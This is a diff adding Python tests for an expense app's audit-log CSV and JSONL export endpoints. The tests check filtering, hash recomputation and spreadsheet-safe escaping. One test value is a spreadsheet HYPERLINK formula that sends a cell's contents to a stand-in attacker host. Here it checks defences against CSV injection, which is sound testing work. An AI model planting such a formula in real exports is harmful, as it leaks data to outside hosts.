@@ -1,0 +1,110 @@
+"""GET /audit/export.csv and .jsonl on PostgreSQL: the filtered events, as the list shows them."""
+
+import csv
+import hashlib
+import io
+import json
+import uuid
+from typing import Any
+
+from fastapi.testclient import TestClient
+
+from app.db import Database
+from app.domain.advice import LlmAdvice, Recommendation
+from app.domain.audit_export import EXPORT_COLUMNS
+from app.services.decisions import Verdict
+from tests.audit_story import click, expense, staff
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def listed(client: TestClient, auth: dict[str, str], **query: str) -> list[dict[str, Any]]:
+    response = client.get("/audit/events", params={**query, "limit": "500"}, headers=auth)
+    assert response.status_code == 200
+    events: list[dict[str, Any]] = response.json()["events"]
+    return events
+
+
+def rehash(row: dict[str, Any]) -> str:
+    """An event's hash from its exported values alone, as the README tells auditors to do."""
+    content = json.dumps(
+        [row[name] for name in EXPORT_COLUMNS[2:-3]], ensure_ascii=False, separators=(",", ":")
+    )
+    header = f"expense-bot-audit/{row['format_version']}\n{row['seq']}\n{row['prev_hash']}\n"
+    return hashlib.sha256(header.encode() + content.encode()).hexdigest()
+
+
+def test_the_csv_holds_the_filtered_events_safe_for_a_spreadsheet(
+    client: TestClient, db: Database
+) -> None:
+    alice, bob, dana = staff(db), staff(db, "approver"), staff(db, "auditor")
+    other = expense(db, staff(db))
+    expense_id = expense(db, alice, merchant='+Cafe, "Central"')
+    click(db, expense_id, bob, Verdict.REJECT, reason=FORMULA)
+    response = client.get("/audit/export.csv", params={"submitter": alice.email}, headers=dana.auth)
+    assert response.status_code == 200
+    assert response.headers["content-type"] == "text/csv; charset=utf-8"
+    assert response.headers["content-disposition"].startswith('attachment; filename="audit-events-')
+    assert response.headers["cache-control"] == "no-store"
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+    expected = listed(client, dana.auth, submitter=alice.email)
+    assert [int(r["id"]) for r in rows] == [e["id"] for e in expected]
+    assert {r["expense_id"] for r in rows} == {str(expense_id)}
+    assert str(other) not in response.text
+    rejected = rows[-1]
+    assert rejected["action"] == "rejected"
+    assert rejected["reason"] == "'" + FORMULA
+    assert rejected["actor_email"] == bob.email
+    assert rejected["hash"] == expected[-1]["hash"]
+    submitted = rows[0]
+    assert json.loads(submitted["details"])["merchant"] == '+Cafe, "Central"'
+
+
+def test_the_jsonl_is_exactly_what_was_hashed(client: TestClient, db: Database) -> None:
+    alice, dana = staff(db), staff(db, "auditor")
+    advice = LlmAdvice(Recommendation.APPROVE, 0.97, ("Fits the trip", "Ünïcode ✓"), "m-1")
+    expense_id = expense(db, alice, advice=advice, amount="2500.00", currency="EUR")
+    response = client.get(
+        "/audit/export.jsonl", params={"expense_id": str(expense_id)}, headers=dana.auth
+    )
+    assert response.status_code == 200
+    assert response.headers["content-type"] == "application/x-ndjson; charset=utf-8"
+    rows = [json.loads(line) for line in response.text.splitlines()]
+    assert [r["action"] for r in rows] == ["submitted", "llm_reviewed", "routed_to_human"]
+    assert list(rows[0]) == list(EXPORT_COLUMNS)
+    for row in rows:
+        assert rehash(row) == row["hash"]
+    assert json.loads(rows[1]["llm_reasons"]) == ["Fits the trip", "Ünïcode ✓"]
+    assert rows[1]["expense_id"] == str(expense_id)
+    assert rows[1]["created_at"].endswith("Z")
+
+
+def test_an_export_of_nothing_is_a_header_or_an_empty_file(
+    client: TestClient, db: Database
+) -> None:
+    dana = staff(db, "auditor")
+    nobody = {"expense_id": str(uuid.uuid4())}
+    csv_text = client.get("/audit/export.csv", params=nobody, headers=dana.auth)
+    assert csv_text.status_code == 200
+    assert csv_text.content.decode("utf-8-sig") == ",".join(EXPORT_COLUMNS) + "\r\n"
+    jsonl = client.get("/audit/export.jsonl", params=nobody, headers=dana.auth)
+    assert (jsonl.status_code, jsonl.content) == (200, b"")
+
+
+def test_exports_take_the_same_filters_and_refuse_the_same_bad_values(
+    client: TestClient, db: Database
+) -> None:
+    dana = staff(db, "auditor")
+    alice = staff(db)
+    approved = expense(
+        db, alice, amount="50.00", advice=LlmAdvice(Recommendation.APPROVE, 0.99, ("ok",), "m")
+    )
+    expense(db, alice, amount="1500.00")
+    query = {"submitter": alice.email, "decided_by": "ai", "min_amount": "10"}
+    response = client.get("/audit/export.jsonl", params=query, headers=dana.auth)
+    rows = [json.loads(line) for line in response.text.splitlines()]
+    assert {r["expense_id"] for r in rows} == {str(approved)}
+    assert [r["id"] for r in rows] == [e["id"] for e in listed(client, dana.auth, **query)]
+    bad = client.get("/audit/export.csv", params={"outcome": "maybe"}, headers=dana.auth)
+    assert bad.status_code == 422
+    assert bad.json()["errors"][0]["field"] == "query.outcome"
